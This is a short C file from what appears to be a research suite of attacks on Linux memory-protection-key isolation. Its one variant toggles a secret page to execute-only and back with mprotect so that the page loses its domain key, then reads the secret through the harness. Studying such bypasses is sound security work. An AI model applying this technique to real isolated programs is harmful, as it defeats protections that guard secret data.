/* C2: execute-only protection takes a key of the kernel's own; the next protection
 * drops it, and with it the domain's.
 *
 * Source: own trials; Linux, arch_override_mprotect_pkey.
 */
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

static void exec_and_back(void) {
    TRY("mprotect", syscall(SYS_mprotect, target.secret, PAGE_BYTES, PROT_EXEC));
    TRY("mprotect", syscall(SYS_mprotect, target.secret, PAGE_BYTES, PROT_READ | PROT_WRITE));
    attack_read();
}

const struct attack attacks[] = {
    {.variant = "exec", .attack = exec_and_back},
    {0},
};
